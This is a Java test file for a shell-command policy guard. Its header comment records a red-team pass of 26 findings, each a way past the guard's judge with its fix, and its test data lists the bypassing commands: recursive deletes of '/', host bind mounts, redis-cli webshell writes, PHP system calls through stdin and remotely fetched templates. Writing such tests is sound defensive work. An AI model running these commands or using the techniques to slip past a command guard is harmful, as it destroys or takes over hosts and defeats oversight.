package dev.gatehouse.policy.shell;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Attack pass 17cv on d56bb0fe: a pass on the day's fixes (17cr's {@link ContainerCommands}, 17cs's
 * {@link Consoles}, 17ct's {@link RuntimeChanges}, the package-change scope rule). Judge: {@link
 * ShellJudgeTest#DEFAULT}; each text as an exec request and as a typed line. Every finding below was
 * allowed both ways before the fix. Proven findings were run under bash 5.2 in a throwaway
 * bubblewrap sandbox ({@code /} read-only, a private {@code /tmp}, its own mount, UTS, PID, IPC and
 * network namespaces, loopback only): {@link #pluginsProvenInSandbox} and {@link
 * #dryRunValueProvenInSandbox} run them again.
 *
 * <p><b>V1, kubectl's {@code --dry-run} as another option's value</b> (proven, kubectl 1.3x against a
 * loopback API stand-in): {@code kubectl create namespace x --field-manager --dry-run} was read as a
 * dry run (service-change skipped for any {@code --dry-run} word), but pflag gives {@code
 * --field-manager} the next word as its value: kubectl POSTs the namespace for real ({@code
 * fieldManager=--dry-run}, no {@code dryRun=All}). Likewise {@code apply -f x --field-manager
 * --dry-run}, {@code rollout restart … --field-manager --dry-run}, and {@code --dry-run=client
 * --dry-run=none} (pflag keeps the last) or a {@code --dry-run} after {@code --}. Fix: {@code
 * RuntimeChanges.dryRun} reads the last {@code --dry-run} standing as an option before {@code --},
 * not after an option that may take it as its value.
 *
 * <p><b>V2, kubectl's plugins</b> (proven: kubectl runs {@code kubectl-sudo} and {@code
 * kubectl-node_shell} from PATH with the words after the verb): {@code kubectl sudo exec web -- rm
 * -rf /} was allowed: a verb kubectl does not know names a plugin, and the reading returned nothing,
 * so the command it sends was never judged; {@code kubectl node-shell NODE} (a root shell on a node)
 * likewise. Fix: a verb that is not kubectl's (or oc's) own is judged as the program {@code
 * kubectl-VERB} with the words after it; {@code kubectl-sudo} is read as kubectl run as {@code
 * system:masters} (its command judged, and sudo), {@code kubectl-node_shell} as a node's root shell
 * (sudo, nested-shell; with {@code -- CMD} the command judged), and {@code kubectl krew
 * install|upgrade|uninstall} (the plugin manager putting programs on PATH) as package-change.
 *
 * <p><b>V3, a verb only known when it runs</b> (not proven: no engine or cluster here; each tool's
 * manual): {@code podman "$V" web rm -rf /}, {@code docker container "$1" web CMD}, {@code docker
 * compose $(echo exec) web CMD}, {@code ctr t "$1" c x CMD}, {@code multipass "$1" vm -- CMD},
 * {@code hcloud server "$1" s CMD}, {@code gcloud compute "$1" vm --command CMD}, {@code vagrant "$1"
 * -c CMD}, … were allowed: the readings found no verb they knew and sent nothing. Fix: {@code
 * ContainerCommands.read} tries a reading that finds nothing again with each sending verb in place of
 * a computed word where a verb may stand; if one sends, the text is unclassified.
 *
 * <p><b>V4, a local volume bind-mounting the host</b> (not proven: no engine; docker-volume-create(1)
 * and the {@code --mount} reference: the local driver takes mount(8)'s {@code type}, {@code o} and
 * {@code device}): {@code docker volume create -o type=none -o o=bind -o device=/ v} (then {@code -v
 * v:/h}), {@code docker run --mount type=volume,…,volume-opt=device=/,volume-opt=o=bind} and {@code
 * -o device=/dev/sda1 -o type=ext4} hold the host as {@code -v /:/h} does. Fix: the device option
 * read as a bind's source (sudo).
 *
 * <p><b>V5, podman pod create</b> (not proven: podman-pod-create(1): {@code --volume}, {@code
 * --device}, {@code --pid}, {@code --network}, {@code --userns}, {@code --security-opt} apply to every
 * container of the pod): {@code podman pod create -v /:/h p}, {@code --pid host}. Fix: read with run's
 * options (sudo).
 *
 * <p><b>V6, podman's storage helper</b> (not proven: containers-storage.conf(5), {@code
 * mount_program}): {@code podman --storage-opt overlay.mount_program=/tmp/x run …} runs that program
 * on the host (as root for a rootful podman), as {@code --runtime} and {@code --conmon} do. Fix: one
 * of the engine's host programs (sudo).
 *
 * <p><b>V7, buildah</b> (not proven: buildah(1), buildah-unshare(1), buildah-from(1)): {@code buildah
 * --root /x run c rm -rf /} (a global option's value stopped the search for {@code run}), {@code
 * buildah unshare rm -rf /} (a command in its user namespace, never judged; alone, a shell) and
 * {@code buildah from -v /:/h alpine} (a working container holding the host). Fix: the global
 * options read from a table; unshare as podman's; from with run's options.
 *
 * <p><b>V8, ctr containers create</b> (not proven: ctr's {@code containers create --help} has run's
 * options): {@code ctr c create --privileged alpine x}, then {@code ctr t start x}. Fix: read as
 * {@code ctr run}'s options (sudo).
 *
 * <p><b>V9, Salt</b> (not proven: salt-call(1) runs the function on this minion, as root; Salt's
 * "compound commands": {@code salt '*' test.ping,cmd.run ',CMD'}): {@code salt-call cmd.run 'rm -rf
 * /'} was not read at all; a compound call hid {@code cmd.run}. Fix: salt-call read as salt (its
 * first operand the function); a compound call is unclassified.
 *
 * <p><b>V10, ansible's options as argparse reads them</b> (not proven: Python's argparse takes a
 * long option by an unambiguous prefix and bundles short ones): {@code ansible all -m shell --ar 'rm
 * -rf /'}, {@code ansible all -ba 'rm -rf /'} (the command not found) and {@code ansible all -bm copy
 * -a 'src=x dest=/etc/sudoers'} or {@code --module-n copy} (the module not found: its arguments were
 * judged as shell words). Fix: ansible's options read by prefix and bundle.
 *
 * <p><b>V11, platforms' shells</b> (not proven: the CLIs' references): {@code heroku run:detached
 * CMD}, {@code aws ec2-instance-connect ssh}, {@code az webapp ssh}, {@code az containerapp exec
 * [--command CMD]}. Fix: the command judged, or a prompt (nested-shell), or unclassified.
 *
 * <p><b>V12, redis-cli's server</b> (not proven: redis-cli.c connects to {@code -s} whenever it is
 * given, and keeps the last {@code -h}; {@code --show-pushes} takes a value): {@code redis-cli -s
 * /run/redis/redis.sock -h 10.9.9.9}, {@code redis-cli -h cache-1 -h 127.0.0.1} and {@code redis-cli
 * --show-pushes yes} open the local server's prompt, as {@code -h localhost.} and {@code -h
 * x.localhost} do where the resolver makes every {@code .localhost} name loopback (RFC 6761); {@code redis-cli module load /tmp/x.so} and
 * {@code redis-cli config set dir /var/www/html} do what that prompt is refused for. Fix: the last
 * host counts, a socket wins; those commands to a local server are interpreter-inline.
 *
 * <p><b>V13, Rails templates from the network</b> (not proven: the Rails guide "Rails Application
 * Templates"): {@code rails new blog -m https://…/t.rb}, {@code bin/rails app:template
 * LOCATION=https://…} run Ruby fetched when it runs. Fix: interpreter-inline (a template on disk stays
 * allowed, as a script file does).
 *
 * <p><b>V14, LXD's configuration from the input</b> (not proven: {@code lxc config edit --help}: {@code
 * lxc config edit c < c.yaml}): {@code printf 'config:\n  security.privileged: "true"\n' | lxc config
 * edit c} holds the host, unseen. Fix: config/profile/project edit unclassified.
 *
 * <p><b>V15, oc observe</b> (not proven: {@code oc observe --help}: the command after {@code --} runs
 * on this host for each object, {@code --delete} and {@code --names} name commands): {@code oc observe
 * pods -- rm -rf /}. Fix: the command judged; --delete/--names unclassified.
 *
 * <p><b>V16, the package-change scope rule's edges</b> (not proven: composer, pdm, pipenv, poetry and
 * uv are not installed here; Symfony Console's {@code Application::find} takes any unambiguous
 * abbreviation and composer has one command starting with {@code g}; argparse's prefixes and bundles;
 * pipenv's {@code PIPENV_SYSTEM}, poetry's {@code virtualenvs.create}, npm's {@code
 * npm_config_*} and uv's {@code UV_PROJECT_ENVIRONMENT} in their manuals): {@code composer g require
 * x/y} (composer global), {@code pdm add --gl x}, {@code pdm add -vg x} (pdm's global project), {@code
 * PIPENV_SYSTEM=1 pipenv install x} (the system's Python), {@code POETRY_VIRTUALENVS_CREATE=false poetry
 * install} and {@code poetry config virtualenvs.create false} (poetry's own Python), {@code
 * npm_config_global=true npm install x} ({@code npm -g}), {@code UV_PROJECT_ENVIRONMENT=/usr uv sync}
 * were allowed as a project's own installs. Fix: {@code g} counts as global's abbreviation, pdm's
 * {@code -g} read by prefix and bundle, those variables (set for the command or in the shell) and
 * poetry's setting are package-change.
 *
 * <p><b>V17, Laravel Sail's pass-through</b> (not proven: Sail is not installed; its script hands a
 * command it does not know to {@code docker compose}): {@code sail exec laravel.test rm -rf /}, {@code
 * sail run --rm laravel.test CMD}. Fix: read as {@code docker compose exec|run|attach}.
 *
 * <p><b>V18, drush sql:query</b> (not proven: drush is not installed; it runs the SQL with the
 * database's client, whose {@code system}/{@code \!} runs a host command, as 17cs read {@code wp db
 * query}): {@code drush sqlq 'system id'}. Fix: interpreter-inline when the SQL holds a host escape
 * or is only known when it runs.
 *
 * <p><b>V19, sysctl -f</b> (proven, procps-ng 4.0.2: {@code -f} is {@code -p}'s alias; in the sandbox's
 * own UTS namespace {@code sysctl -f FILE} with {@code kernel.hostname = …} renamed it): the kernel's
 * settings loaded from a file were allowed (17ct's reading of the kernel's settings as files relies on
 * {@code sysctl -w}/{@code -p} being firewall-change). Fix: {@code -f} read as {@code -p}.
 *
 * <p><b>V20, the clock and the machine's name by other clients</b> (not proven: chronyc and nmcli are
 * not installed; chronyc(1): without a command it reads commands from its input or the terminal;
 * nmcli(1): {@code general hostname NAME}, each word by any prefix): {@code echo makestep | chronyc},
 * {@code chronyc} typed (its prompt: {@code settime}), {@code nmcli g h NAME}; also {@code
 * powerprofilesctl set X} (as {@code tuned-adm profile}). Fix: firewall-change, as 17ct's siblings.
 *
 * <p><b>V21, a {@code --mount} field given twice</b> (proven as far as the engine's request: the
 * docker CLI sends a bind of {@code /}, seen by a stand-in engine): {@code --mount
 * type=volume,type=bind,source=/,target=/h} and {@code type=bind,source=data,source=/} were read by
 * their first {@code type}/{@code source}; the CLI keeps the last. Fix: every type and every source
 * read. (V3 and V4 are proven the same way: {@code docker container "$1" web CMD} asks for an exec of
 * CMD, a local volume with {@code device=/,o=bind} asks the engine for a bind of {@code /}; the
 * engine's own mount is not run here.)
 *
 * <p><b>V22, a read redirection through a variable or a link the text makes</b> (proven with a
 * stand-in: a FIFO named {@code /dev/watchdog} in the sandbox's own {@code /dev}, whose writer reports
 * the open): 17ct read {@code cd /dev; cat < watchdog} (power), but not {@code f=/dev/watchdog; cat <
 * $f}, {@code cd /dev; f=watchdog; cat < "$f"} nor {@code ln -s /dev /tmp/d; cat < /tmp/d/watchdog}:
 * the variables' values and the links were read for writes and words, not for read redirections.
 * Fix: {@code RelativePaths} reads them for read redirections too.
 *
 * <p><b>V23, development-cluster tools</b> (not proven: not installed; their references): {@code
 * telepresence intercept web --port 8080 -- CMD} and {@code mirrord exec --target pod/web -- CMD} run
 * CMD on this host (in the cluster's network), {@code okteto exec -- CMD}, {@code devspace enter --
 * CMD}, {@code devcontainer exec … CMD}, {@code garden exec DEPLOY CMD} in a development container: none
 * was read. Fix: the command after {@code --} judged; {@code okteto up}, {@code devspace enter} a
 * terminal (nested-shell); without {@code --}, where their options' end is not read, unclassified.
 *
 * <p><b>V24, docker's CLI plugins from a configuration directory</b> (proven, docker CLI 28:
 * {@code docker --config /tmp/c compose ps} ran {@code /tmp/c/cli-plugins/docker-compose}, and {@code
 * docker --config /tmp/c --help} ran each plugin there for its description): 17y refused these when the
 * same text writes the plugin; a directory prepared earlier was allowed, and {@code DOCKER_CONFIG=DIR}
 * too, while {@code KUBECONFIG=FILE} is interpreter-inline. Fix: {@code docker --config DIR} with a
 * verb that may be a plugin's ({@code compose}, {@code build}, {@code buildx}, any not docker's own) or
 * none is unclassified; {@code DOCKER_CONFIG} is read as {@code KUBECONFIG} (interpreter-inline).
 *
 * <p><b>V25, PHP from the input by another name</b> (not proven: WP-CLI and drush are not installed;
 * {@code wp eval-file} reads the file's PHP, {@code drush php:script} includes it): 17cs read {@code wp
 * eval-file -} as a prompt but {@code echo '<?php …' | wp eval-file /dev/stdin}, {@code php://stdin},
 * {@code /proc/self/fd/0} and {@code drush scr /dev/stdin} as a file on disk. Fix: a device, a
 * descriptor or {@code php://stdin} is the input (a prompt: interpreter-inline when fed, nested-shell
 * typed); another stream ({@code data://…}) is code in the word.
 *
 * <p><b>V26, npm's global install in a bundle</b> (proven, npm 9: {@code npm i -gD /tmp/pkg} installed
 * into the global prefix, nothing in the project): the scope rule read {@code -g} only alone. Fix: a
 * bundle of one-letter flags holding {@code g} is global (npm, pnpm, yarn, bun).
 *
 * <p>Left alone: other kubectl plugins are judged as the programs they are ({@code kubectl ns} is
 * {@code kubectl-ns}, allowed as any unknown program is in deny-list mode: the guard trusts a program's
 * name, and {@code kubectl ns}, {@code kubectl ctx}, {@code kubectl krew list} are daily work); binds of
 * {@code /opt}, {@code /srv}, {@code /tmp} (17cr's choice); {@code podman build -v}/{@code buildah
 * build -v} (a Dockerfile's RUN lines, as {@code docker build}); cloud verbs that run code at boot
 * ({@code gcloud … add-metadata startup-script}, {@code az vm extension set}: 17ct left the clouds'
 * verbs for a pass of their own); mounts of {@code /} into a user's own VM ({@code multipass mount},
 * {@code minikube mount}, {@code limactl start --set}); {@code ansible -b} on localhost; {@code docker
 * cp}/{@code kubectl cp}; persistent configuration under {@code /etc} that takes effect at boot or
 * at the next load ({@code /etc/sysctl.d}, {@code /etc/modprobe.d}, {@code /etc/hostname}, {@code
 * /etc/hosts}, {@code /etc/ld.so.preload}: no class reads them, before today's changes either; a pass
 * of its own); a bind of a symbolic link to {@code /} made earlier ({@code -v /tmp/r:/h}: the link is
 * not in the text). Everyday work refused since 768b00a9 by 17cr's documented choice: {@code docker
 * exec "$c" ls} (a quoted word may be an option such as {@code --privileged}: left unclassified).
 * Regressions: none found (the 6,455 quoted texts of the policy tests and this
 * pass's 500 probes judged by 768b00a9 and d56bb0fe: none allowed now that was refused then; 235
 * everyday lines of docker, kubectl, frameworks, clients, reads: none refused now that was allowed).
 */
class ShellAttack17cvTest {

  @ParameterizedTest(name = "{0}: {1} -> {2} {3}")
  @CsvSource(delimiterString = " => ", quoteCharacter = '~', textBlock = """
      V1 => kubectl create namespace x --field-manager --dry-run => review => service-change
      V1 => kubectl apply -f pod.yaml --field-manager --dry-run => review => service-change
      V1 => kubectl rollout restart deploy/web --field-manager --dry-run => review => service-change
      V1 => kubectl apply -f pod.yaml --dry-run=client --dry-run=none => review => service-change
      V1 => kubectl scale deploy web --replicas=0 -- --dry-run => review => service-change
      V2 => kubectl sudo exec web -- rm -rf / => block => recursive-delete-root
      V2 => kubectl sudo get pods => review => sudo
      V2 => kubectl node-shell node1 => review => sudo
      V2 => kubectl krew install node-shell => review => package-change
      V2 => kubectl node-shell node1 -- rm -rf / => block => recursive-delete-root
      V3 => podman "$V" web rm -rf / => review => unclassified
      V3 => docker container "$1" web rm -rf / => review => unclassified
      V3 => docker compose $(echo exec) web rm -rf / => review => unclassified
      V3 => docker compose --file x.yml "$1" web rm -rf / => review => unclassified
      V3 => ctr t "$1" c x rm -rf / => review => unclassified
      V3 => multipass "$1" vm -- rm -rf / => review => unclassified
      V3 => hcloud server "$1" s rm -rf / => review => unclassified
      V3 => gcloud compute "$1" vm --command 'rm -rf /' => review => unclassified
      V3 => vagrant "$1" -c 'rm -rf /' => review => unclassified
      V3 => runc "$1" c rm -rf / => review => unclassified
      V3 => apptainer "$1" x.sif rm -rf / => review => unclassified
      V4 => docker volume create -o type=none -o o=bind -o device=/ v => review => sudo
      V4 => docker volume create --driver local --opt type=none --opt device=/etc --opt o=bind v => review => sudo
      V4 => docker volume create -o device=/dev/sda1 -o type=ext4 v => review => sudo
      V4 => podman volume create --opt=device=/ --opt=o=bind v => review => sudo
      V4 => docker run --rm --mount type=volume,dst=/h,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/ alpine true => review => sudo
      V5 => podman pod create -v /:/h p => review => sudo
      V5 => podman pod create --pid host p => review => sudo
      V5 => podman pod create --network=host --name p => review => sudo
      V6 => podman --storage-opt overlay.mount_program=/tmp/x run alpine true => review => sudo
      V6 => podman --storage-opt=overlay.mount_program=/tmp/x ps => review => sudo
      V7 => buildah --root /x run c rm -rf / => block => recursive-delete-root
      V7 => buildah --log-level debug run c -- rm -rf / => block => recursive-delete-root
      V7 => buildah unshare rm -rf / => block => recursive-delete-root
      V7 => buildah unshare => review => nested-shell
      V7 => buildah from --volume /:/h alpine => review => sudo
      V8 => ctr c create --privileged alpine x => review => sudo
      V8 => ctr containers create --mount type=bind,src=/,dst=/h,options=rbind alpine x => review => sudo
      V9 => salt-call cmd.run 'rm -rf /' => block => recursive-delete-root
      V9 => salt-call --local cmd.run 'rm -rf /' => block => recursive-delete-root
      V9 => salt-call state.apply => review => unclassified
      V9 => salt '*' test.ping,cmd.run ',rm -rf /' => review => unclassified
      V10 => ansible all -m shell --ar 'rm -rf /' => block => recursive-delete-root
      V10 => ansible all -m shell --arg='rm -rf /' => block => recursive-delete-root
      V10 => ansible all -ba 'rm -rf /' => block => recursive-delete-root
      V10 => ansible all -bm copy -a 'src=x dest=/etc/sudoers' => review => unclassified
      V10 => ansible all -bmcopy -a 'src=x dest=/etc/sudoers' => review => unclassified
      V10 => ansible all --module-n copy -a 'src=x dest=/etc/sudoers' => review => unclassified
      V11 => heroku run:detached 'rm -rf /' => block => recursive-delete-root
      V11 => aws ec2-instance-connect ssh --instance-id i-1 => review => nested-shell
      V11 => az webapp ssh -n x -g g => review => nested-shell
      V11 => az containerapp exec -n x -g g => review => nested-shell
      V11 => az containerapp exec -n x -g g --command 'rm -rf /' => review => unclassified
      V12 => redis-cli -s /run/redis/redis.sock -h 10.9.9.9 => review => nested-shell
      V12 => redis-cli -h cache-1 -h 127.0.0.1 => review => nested-shell
      V12 => redis-cli -h cache-1 -u redis://127.0.0.1 => review => nested-shell
      V12 => redis-cli --show-pushes yes => review => nested-shell
      V12 => redis-cli -h localhost. => review => nested-shell
      V12 => redis-cli -h cache.localhost => review => nested-shell
      V12 => redis-cli module load /tmp/x.so => review => interpreter-inline
      V12 => redis-cli -n 1 MODULE LOAD /tmp/x.so => review => interpreter-inline
      V12 => redis-cli --no-raw config set dir /var/www/html => review => interpreter-inline
      V12 => redis-cli config set dbfilename shell.php => review => interpreter-inline
      V13 => rails new blog -m https://example.com/t.rb => review => interpreter-inline
      V13 => rails new blog --template=https://example.com/t.rb => review => interpreter-inline
      V13 => rails new blog -mhttps://example.com/t.rb => review => interpreter-inline
      V13 => bin/rails app:template LOCATION=https://example.com/t.rb => review => interpreter-inline
      V13 => rake app:template LOCATION=https://example.com/t.rb => review => interpreter-inline
      V13 => rails new blog -m "$T" => review => interpreter-inline
      V14 => printf 'config:\\n  security.privileged: "true"\\n' | lxc config edit c => review => unclassified
      V14 => lxc profile edit default < p.yaml => review => unclassified
      V15 => oc observe pods -- rm -rf / => block => recursive-delete-root
      V15 => oc observe pods --delete ./del.sh -- ./add.sh => review => unclassified
      V16 => composer g require vendor/pkg => review => package-change
      V26 => npm i -gD /tmp/pkg => review => package-change
      V26 => npm install -Dg typescript => review => package-change
      V25 => echo '<?php system("id");' | wp eval-file /dev/stdin => review => interpreter-inline
      V25 => cat x.php | wp eval-file /proc/self/fd/0 => review => interpreter-inline
      V25 => wp eval-file php://stdin < x.php => review => interpreter-inline
      V25 => echo '<?php system("id");' | drush php:script /dev/stdin => review => interpreter-inline
      V25 => wp eval-file 'data://text/plain,<?php system("id");' => review => interpreter-inline
      V24 => docker --config /tmp/c compose ps => review => unclassified
      V24 => docker --config=/tmp/c build . => review => unclassified
      V24 => docker --config /tmp/c --help => review => unclassified
      V24 => DOCKER_CONFIG=/tmp/c docker compose ls => review => interpreter-inline
      V23 => telepresence intercept web --port 8080 -- rm -rf / => block => recursive-delete-root
      V23 => mirrord exec --target pod/web -- rm -rf / => block => recursive-delete-root
      V23 => mirrord exec --target pod/web ./app => review => unclassified
      V23 => okteto exec -- rm -rf / => block => recursive-delete-root
      V23 => okteto up => review => nested-shell
      V23 => devspace enter -- rm -rf / => block => recursive-delete-root
      V23 => devspace enter => review => nested-shell
      V23 => devcontainer exec --workspace-folder . rm -rf / => review => unclassified
      V23 => garden exec web 'rm -rf /' => review => unclassified
      V22 => f=/dev/watchdog; cat < $f => block => power
      V22 => cd /dev; f=watchdog; cat < "$f" => block => power
      V22 => f=watchdog; cd /dev; cat < $f => block => power
      V22 => ln -s /dev /tmp/d; cat < /tmp/d/watchdog => block => power
      V22 => ln -s /dev /tmp/d; cd /tmp; cat < d/watchdog => block => power
      V19 => sysctl -f /tmp/x.conf => review => firewall-change
      V19 => sysctl -qf /tmp/x.conf => review => firewall-change
      V20 => echo makestep | chronyc => review => firewall-change
      V20 => chronyc => review => firewall-change
      V20 => chronyc -h 127.0.0.1 => review => firewall-change
      V20 => nmcli general hostname evil => review => firewall-change
      V20 => nmcli g h evil => review => firewall-change
      V20 => powerprofilesctl set power-saver => review => firewall-change
      V17 => sail exec laravel.test rm -rf / => block => recursive-delete-root
      V17 => ./vendor/bin/sail run --rm laravel.test rm -rf / => block => recursive-delete-root
      V17 => sail exec laravel.test => review => nested-shell
      V18 => drush sqlq 'system id' => review => interpreter-inline
      V18 => drush @prod sql:query '\\! id' => review => interpreter-inline
      V16 => composer --no-interaction g require vendor/pkg => review => package-change
      V16 => pdm add --gl requests => review => package-change
      V16 => pdm add --glob requests => review => package-change
      V16 => pdm add -vg requests => review => package-change
      V16 => PIPENV_SYSTEM=1 pipenv install requests => review => package-change
      V16 => POETRY_VIRTUALENVS_CREATE=false poetry install => review => package-change
      V16 => poetry config virtualenvs.create false => review => package-change
      V16 => npm_config_global=true npm install x => review => package-change
      V16 => UV_PROJECT_ENVIRONMENT=/usr uv sync => review => package-change
      """)
  void fixed(String finding, String text, String label, String rule) {
    ShellJudgeTest.assertBoth(finding, text, label, rule);
  }

  /** Everyday work near the fixes stays allowed. */
  @ParameterizedTest(name = "allowed: {0}")
  @CsvSource(delimiterString = " => ", quoteCharacter = '~', textBlock = """
      kubectl apply -f x.yaml --dry-run=client -o yaml
      kubectl apply -f x.yaml --force --dry-run=server
      kubectl create secret generic x --from-literal=a=b --dry-run=client -o yaml
      kubectl create deployment web --image=nginx --dry-run=client -o yaml
      kubectl ns
      kubectl ctx
      kubectl krew list
      kubectl neat get pod web
      kubectl get pods
      kubectl exec web-123 -- ls /app
      docker logs "$c"
      docker inspect "$c"
      docker ps --filter "name=$N"
      podman logs "$c"
      gcloud compute instances list --filter "$F"
      gcloud config set project "$P"
      aws ec2 describe-instances --instance-ids "$ID"
      az vm show -g "$G" -n "$VM"
      docker compose -f x.yml logs "$svc"
      aws ec2 describe-instances --instance-ids "$ID"
      docker volume create data
      docker volume create -o size=10G data
      docker run --rm --mount type=volume,src=data,dst=/data alpine ls
      podman pod create --name p -p 8080:80
      podman pod ps
      buildah images
      buildah from alpine
      buildah --log-level debug images
      buildah run c -- ls
      buildah unshare ls
      ctr c ls
      ctr containers create docker.io/library/alpine:latest x
      salt-call grains.items
      salt-call test.ping
      salt -L web1,web2 test.ping
      ansible all -m ping
      ansible all -a 'uptime'
      ansible web -b -m shell -a 'systemctl status nginx'
      heroku ps
      heroku logs --tail
      redis-cli ping
      redis-cli -h cache-1
      redis-cli -h cache-1 info
      redis-cli config get dir
      redis-cli -h cache-1 config set maxmemory 1gb
      rails new blog -m template.rb
      rails new blog -d postgresql
      rails app:template LOCATION=lib/templates/t.rb
      lxc config show c
      lxc config get c limits.cpu
      lxc profile show default
      oc get pods
      composer install
      composer require monolog/monolog
      composer show
      pdm add -d pytest
      pdm add -G test pytest
      pdm add requests
      pipenv install requests
      poetry install
      poetry config virtualenvs.in-project true
      poetry config --list
      UV_PROJECT_ENVIRONMENT=.venv uv sync
      npm_config_loglevel=warn npm ci
      sail up -d
      sail artisan migrate
      sail exec laravel.test php -v
      drush sqlq 'select count(*) from users'
      drush cr
      sysctl -a
      sysctl -n vm.swappiness
      chronyc tracking
      chronyc sources -v
      nmcli general status
      nmcli g
      nmcli general hostname
      powerprofilesctl get
      f=/etc/hostname; cat < $f
      f=app.log; cat < $f
      while read l; do echo $l; done < "$file"
      telepresence intercept web --port 8080
      telepresence connect -- curl http://web
      telepresence list
      okteto deploy
      devspace dev
      devcontainer up --workspace-folder .
      devcontainer exec --workspace-folder . -- npm test
      garden deploy
      docker --config /tmp/c ps
      wp eval-file scripts/fix.php
      npm i -D typescript
      npm install -E lodash
      drush scr scripts/fix.php
      docker compose ps
      docker build .
      cd /var/log; f=syslog; grep error < $f
      """)
  void everydayStaysAllowed(String text) {
    ShellAttack17cjTest.assertAllowed(text);
  }

  /**
   * V2: kubectl hands the words after a verb it does not know to the program {@code kubectl-VERB}
   * (dashes as underscores) found in PATH. Stand-in plugins print what they were given.
   */
  @ParameterizedTest(name = "V2: {0}")
  @CsvSource(delimiterString = " => ", quoteCharacter = '~', textBlock = """
      kubectl sudo exec web -- rm -rf /tmp/cv-nothing => kubectl-sudo ran with: exec web -- rm -rf /tmp/cv-nothing
      kubectl node-shell node1 -- id => kubectl-node_shell ran with: node1 -- id
      """)
  void pluginsProvenInSandbox(String text, String expected) throws Exception {
    TestPrograms.assumeSandbox("kubectl");
    String setup = "mkdir -p /tmp/bin; for p in kubectl-sudo kubectl-node_shell; do printf '#!/bin/sh\\necho \"%s ran with: $*\"\\n' $p"
        + " > /tmp/bin/$p; chmod +x /tmp/bin/$p; done; export PATH=/tmp/bin:$PATH\n";
    String out = TestPrograms.output(TestPrograms.sandbox("cd /tmp\n" + setup + "(" + text + ")\n"));
    assertThat(out).as("V2: %s (output: %s)", text, out).contains(expected);
    ShellJudgeTest.assertRefusedBoth(text);
  }

  /**
   * V1: {@code --field-manager --dry-run} is no dry run. A stand-in API server on the sandbox's
   * loopback logs each request: kubectl POSTs the namespace with {@code fieldManager=--dry-run} and
   * no {@code dryRun} (while {@code --dry-run=client} sends nothing).
   */
  @Test
  void dryRunValueProvenInSandbox() throws Exception {
    TestPrograms.assumeSandbox("kubectl");
    Assumptions.assumeTrue(TestPrograms.onPath("python3"), "python3 is needed");
    String server = String.join("\n",
        "import http.server, json",
        "class H(http.server.BaseHTTPRequestHandler):",
        "    def log_message(self, *a): pass",
        "    def _r(self):",
        "        n = int(self.headers.get('Content-Length') or 0)",
        "        self.rfile.read(n)",
        "        open('/tmp/req.log', 'a').write(self.command + ' ' + self.path + '\\n')",
        "        b = json.dumps({'apiVersion': 'v1', 'kind': 'Namespace', 'metadata': {'name': 'cv17'}}).encode()",
        "        self.send_response(201)",
        "        self.send_header('Content-Type', 'application/json')",
        "        self.send_header('Content-Length', str(len(b)))",
        "        self.end_headers()",
        "        self.wfile.write(b)",
        "    do_GET = do_POST = do_PATCH = do_PUT = do_DELETE = _r",
        "http.server.HTTPServer(('127.0.0.1', 18417), H).serve_forever()", "");
    String text = "kubectl create namespace cv17 --field-manager --dry-run";
    String script = "cd /tmp\ncat > /tmp/s.py <<'EOF'\n" + server + "EOF\npython3 /tmp/s.py &\n"
        + "for i in 1 2 3 4 5 6 7 8 9 10; do (echo > /dev/tcp/127.0.0.1/18417) 2>/dev/null && break; sleep 0.5; done\n"
        + "export KUBECONFIG=/tmp/none\n"
        + "(" + text + " --server=http://127.0.0.1:18417)\ncat /tmp/req.log\n";
    String out = TestPrograms.output(TestPrograms.sandbox(script));
    assertThat(out).as("V1 (output: %s)", out).contains("POST /api/v1/namespaces?fieldManager=--dry-run")
        .doesNotContain("dryRun=");
    ShellJudgeTest.assertRefusedBoth(text);
    ShellJudgeTest.assertRefusedBoth(text + " --server=http://127.0.0.1:18417");
  }

  /**
   * V19: {@code sysctl -f FILE} loads the settings of FILE as {@code -p} does. The sandbox has its own
   * UTS namespace: {@code kernel.hostname} there is the sandbox's only.
   */
  @Test
  void sysctlFileProvenInSandbox() throws Exception {
    TestPrograms.assumeSandbox("sysctl");
    String text = "sysctl -f /tmp/s.conf";
    String out = TestPrograms.output(TestPrograms.sandbox("cd /tmp\necho 'kernel.hostname = cv17-sysctl' > /tmp/s.conf\n(" + text
        + ")\necho \"host=$(hostname)\"\n"));
    assertThat(out).as("V19 (output: %s)", out).contains("host=cv17-sysctl");
    ShellJudgeTest.assertRefusedBoth(text);
  }

  /** A stand-in Docker engine on a Unix socket in the sandbox: it logs each request of the docker CLI (method, path, body). */
  private static final String DOCKERD = String.join("\n",
      "import socketserver, http.server, json",
      "class H(http.server.BaseHTTPRequestHandler):",
      "    protocol_version = 'HTTP/1.1'",
      "    def log_message(self, *a): pass",
      "    def address_string(self): return 'unix'",
      "    def _r(self):",
      "        n = int(self.headers.get('Content-Length') or 0)",
      "        body = self.rfile.read(n).decode() if n else ''",
      "        open('/tmp/dockerd.log', 'a').write(self.command + ' ' + self.path + ' ' + body + '\\n')",
      "        p = self.path.split('?')[0]",
      "        code, out = 500, json.dumps({'message': 'stand-in engine'})",
      "        if p.endswith('/_ping'): code, out = 200, 'OK'",
      "        elif p.endswith('/containers/create'): code, out = 201, json.dumps({'Id': 'cv17', 'Warnings': []})",
      "        elif p.endswith('/volumes/create'): code, out = 201, json.dumps({'Name': 'v', 'Driver': 'local'})",
      "        elif p.endswith('/containers/web/json'): code, out = 200, json.dumps({'Id': 'web', 'State': {'Running': True}, 'Config': {}})",
      "        elif p.endswith('/exec'): code, out = 201, json.dumps({'Id': 'e17'})",
      "        b = out.encode()",
      "        self.send_response(code)",
      "        self.send_header('Content-Type', 'text/plain' if out == 'OK' else 'application/json')",
      "        self.send_header('Api-Version', '1.43')",
      "        self.send_header('Content-Length', str(len(b)))",
      "        self.end_headers()",
      "        if self.command != 'HEAD': self.wfile.write(b)",
      "    do_GET = do_POST = do_PUT = do_DELETE = do_HEAD = _r",
      "class S(socketserver.ThreadingMixIn, socketserver.UnixStreamServer):",
      "    daemon_threads = True",
      "S('/tmp/d.sock', H).serve_forever()", "");

  /**
   * V3, V4, V21: what the docker CLI asks of the engine, seen by a stand-in engine: {@code docker
   * container "$1" web CMD} with {@code $1=exec} (set before the text) creates an exec of CMD in {@code web}; {@code
   * --mount type=volume,type=bind,source=/} asks for a bind of {@code /} (the last field counts); a
